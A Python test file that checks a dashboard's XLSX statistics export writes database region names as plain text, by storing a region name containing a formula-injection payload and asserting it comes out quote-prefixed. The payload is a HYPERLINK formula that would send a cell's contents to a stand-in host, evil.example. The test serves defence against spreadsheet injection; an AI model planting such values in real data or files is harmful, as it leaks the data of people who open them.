"""The statistics export writes names from the database as text: never a formula, never a broken file."""

import io
import zipfile

from openpyxl import load_workbook

from tests.dashboard.helpers import STREET_1
from tests.dashboard.test_statistics import END, START, cases  # noqa: F401 — the fixture
from wangge.regions.models import Region

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_region_named_like_a_formula_with_a_control_character_is_exported_as_text(cases, browser_client):  # noqa: F811
    community = Region.objects.filter(parent__code=STREET_1).order_by("code").first()
    Region.objects.filter(pk=community.pk).update(name=FORMULA + "\x01")  # as it may be stored already
    client = browser_client("leader", language="en")
    export = client.get(f"/dashboard/stats/?region={STREET_1}&date_from={START}&date_to={END}&group=region&format=xlsx")
    assert export.status_code == 200
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    labels = [row[0] for row in load_workbook(io.BytesIO(export.content)).active.iter_rows()]
    written = [cell for cell in labels if cell.value == FORMULA]
    assert written and all(cell.quotePrefix for cell in written)
